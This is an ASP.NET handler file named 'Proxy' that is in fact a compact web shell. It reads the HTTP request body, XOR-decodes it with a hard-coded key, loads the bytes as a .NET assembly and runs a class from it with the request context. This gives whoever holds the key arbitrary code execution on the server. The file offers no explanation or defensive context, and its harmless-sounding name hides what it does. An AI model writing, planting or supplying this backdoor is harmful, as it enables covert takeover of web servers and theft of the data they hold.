<%@ WebHandler Language="C#" Class="Proxy" %>
using System; using System.Web; using System.Reflection;
public class Proxy : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext context) {
    byte[] key = { 0x12, 0x34, 0x56, 0x78 };
    byte[] buf = new byte[context.Request.ContentLength];
    context.Request.InputStream.Read(buf, 0, buf.Length);
    for (int i = 0; i < buf.Length; i++) buf[i] = (byte)(buf[i] ^ key[i % key.Length]);
    object o = AppDomain.CurrentDomain.Load(buf).CreateInstance("P");
    o.Equals(context);
  }
}
